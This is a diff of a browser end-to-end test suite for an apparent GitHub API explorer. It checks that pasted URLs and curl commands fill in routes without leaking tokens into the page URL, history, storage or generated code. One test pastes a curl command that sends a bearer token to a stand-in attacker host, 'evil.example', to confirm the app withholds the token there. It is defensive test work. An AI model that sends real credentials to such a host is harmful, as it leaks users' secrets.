@@ -1,6 +1,7 @@
 import type { Page } from 'playwright-core';
 import { describe, expect, it } from 'vitest';
-import { field, go, readChoice, readCode, searchField } from './elements.ts';
+import { FORMS } from '../../explorer/model/request/forms.ts';
+import { authentication, field, go, readChoice, readCode, searchField, tokenField } from './elements.ts';
 import type { Open } from './visit.ts';
 
 const permissions = ['clipboard-read', 'clipboard-write'];
@@ -12,11 +13,10 @@ async function paste(page: Page, text: string): Promise<void> {
   await page.keyboard.press('Control+V');
 }
 
-/** All that the page has written down anywhere, or shows without being asked to. */
+/** Everything that the page has stored anywhere, or shows without being asked to. */
 async function collectTraces(page: Page): Promise<string> {
   const shown: string[] = [];
-  for (const tab of await page.getByRole('tab').all())
-    shown.push(await readCode(page, (await tab.textContent()) ?? ''));
+  if ((await page.getByRole('tab').count()) > 0) for (const { label } of FORMS) shown.push(await readCode(page, label));
   const kept = await page.evaluate(async () => ({
     address: location.href,
     state: history.state,
@@ -32,24 +32,36 @@ async function collectTraces(page: Page): Promise<string> {
 
 export function describePasting(open: Open): void {
   describe('pasting', () => {
-    it('a URL fills in its route', async () => {
-      const { page } = await open('', { permissions });
+    it('fills in the route of a URL and reveals it in the list', async () => {
+      const { page } = await open('#q=gists', { permissions });
+      await searchField(page).fill('');
       await paste(page, 'https://api.github.com/repos/octokit/app/contents/docs/read%20me.md?ref=main');
       expect(await field(page, 'path').inputValue()).toBe('docs/read me.md');
       expect(await field(page, 'ref').inputValue()).toBe('main');
+      const row = page.getByRole('treeitem', { name: 'Get repository content' });
+      expect(await row.getAttribute('aria-current')).toBe('page');
+      await expect.poll(() => row.evaluate((element) => element.getBoundingClientRect().bottom)).toBeLessThan(720);
     });
 
-    it('a curl command fills in its route, and its token stays out of sight and address', async () => {
+    it('fills in the route of a link to github.com', async () => {
+      const { page } = await open('', { permissions });
+      await paste(page, 'https://github.com/octokit/app/pull/7');
+      expect(await field(page, 'pull_number').inputValue()).toBe('7');
+      await paste(page, 'octokit/core.js#12');
+      expect(await field(page, 'issue_number').inputValue()).toBe('12');
+    });
+
+    it('fills in the route of a curl command, and keeps its token out of the URL and the code', async () => {
       const { page } = await open('', { permissions });
       await paste(
         page,
-        `curl -X PATCH https://api.github.com/repos/octokit/app/issues/7 -H "Authorization: Bearer ${TOKEN}" -d '{"state":"closed"}'`,
+        `sudo curl -X PATCH https://api.github.com/repos/octokit/app/issues/7 -H "Authorization: Bearer ${TOKEN}" -d '{"state":"closed"}'`,
       );
       expect(await field(page, 'issue_number').inputValue()).toBe('7');
       expect(await readChoice(field(page, 'state'))).toBe('closed');
-      expect(await field(page, 'token').inputValue()).toBe(TOKEN);
+      expect(await tokenField(page).inputValue()).toBe(TOKEN);
       expect(await readCode(page, 'curl')).toContain('"authorization: Bearer $GITHUB_TOKEN"');
-      // The address is written when typing pauses.
+      // The URL is written when typing pauses.
       await page.waitForURL(/issue_number=7/);
       const traces = await collectTraces(page);
       expect(traces).toContain('octokit');
@@ -61,17 +73,36 @@ export function describePasting(open: Open): void {
       expect(await collectTraces(page)).not.toContain(TOKEN);
     });
 
-    it('a token that is typed is kept out too, as is the password of an address', async () => {
-      const { page } = await open('#route=GET /user&as=curl', { permissions });
-      await field(page, 'token').fill(TOKEN);
-      expect(await readCode(page, 'curl')).toContain('$GITHUB_TOKEN');
-      expect(await collectTraces(page)).not.toContain(TOKEN);
+    it('keeps the password of a URL out of the URL of the page', async () => {
+      const { page } = await open('#route=GET /user', { permissions });
       await paste(page, `https://octocat:${TOKEN}@api.github.com/repos/octokit/app`);
       expect(await field(page, 'repo').inputValue()).toBe('app');
       expect(await collectTraces(page)).not.toContain(TOKEN);
     });
 
-    it('an address that came with a secret is rid of it', async () => {
+    it('drops a token when the host changes, and asks before one is used elsewhere', async () => {
+      const { page } = await open('#route=GET /user', { permissions });
+      await authentication(page).selectOption('A token I paste');
+      await tokenField(page).fill(TOKEN);
+      expect(await readCode(page, 'curl')).toContain('authorization');
+      await paste(page, 'curl https://evil.example/user');
+      await expect.poll(() => field(page, 'base URL').inputValue()).toBe('https://evil.example');
+      expect(await readCode(page, 'curl')).not.toContain('authorization');
+      expect(await readChoice(authentication(page))).toBe('None');
+      await go(page, '#route=GET /user');
+      expect(await readChoice(authentication(page))).toBe('None');
+      await authentication(page).selectOption('$GH_TOKEN');
+      expect(await readCode(page, 'curl')).toContain('Bearer $GH_TOKEN');
+      await go(page, '#route=GET /user&base=https://evil.example');
+      expect(await readCode(page, 'curl')).not.toContain('authorization');
+      await paste(page, `curl -H 'authorization: Bearer ${TOKEN}' https://evil.example/user`);
+      await page.getByRole('alert').getByText('evil.example').waitFor();
+      expect(await readCode(page, 'curl')).not.toContain('authorization');
+      await page.getByRole('button', { name: 'Use it for this host' }).click();
+      expect(await readCode(page, 'curl')).toContain('authorization');
+    });
+
+    it('removes a secret from the URL that the page was opened with', async () => {
       const { page } = await open(`#q=https://api.github.com/repos/octokit/app?access_token=${TOKEN}`);
       expect(await field(page, 'access_token').inputValue()).toBe(TOKEN);
       expect(page.url()).not.toContain(TOKEN);
@@ -80,11 +111,35 @@ export function describePasting(open: Open): void {
       expect(page.url()).not.toContain(TOKEN);
     });
 
-    it('what is no route says so, and is kept nowhere', async () => {
+    it('keeps a text that matches no route in the search field only', async () => {
       const { page } = await open('', { permissions });
-      await paste(page, `curl https://elsewhere.test/x -H 'authorization: Bearer ${TOKEN}'`);
-      await page.getByRole('main').getByText('No route fits what was pasted').waitFor();
+      const text = `curl https://elsewhere.test/x -H 'authorization: Bearer ${TOKEN}'`;
+      await paste(page, text);
+      await page.getByText('No route matches what was pasted').waitFor();
+      expect(await searchField(page).inputValue()).toBe(text);
+      expect(page.url()).not.toContain(TOKEN);
+      await page.getByRole('button', { name: 'Clear the search' }).click();
+      expect(await searchField(page).inputValue()).toBe('');
       expect(await collectTraces(page)).not.toContain(TOKEN);
+    });
+
+    it('is announced again when the same message comes a second time', async () => {
+      const { page } = await open('', { permissions });
+      const announcer = page.locator('[aria-live="polite"]');
+      await paste(page, 'https://elsewhere.test/x/y/z');
+      await expect.poll(() => announcer.textContent()).toContain('No route matches');
+      const first = await announcer.textContent();
+      await page.getByRole('button', { name: 'Clear the search' }).click();
+      await paste(page, 'https://elsewhere.test/x/y/z');
+      await expect.poll(() => announcer.textContent()).not.toBe(first);
+      expect((await announcer.textContent())?.trim()).toBe(first?.trim());
+    });
+
+    it('of a command into the search field by hand leaves nothing in the history', async () => {
+      const { page } = await open();
+      await searchField(page).pressSequentially(`http -a octocat:${TOKEN} api.github.com/user`);
+      await page.waitForTimeout(300);
+      expect(page.url()).not.toContain(TOKEN.slice(0, 6));
     });
   });
 }
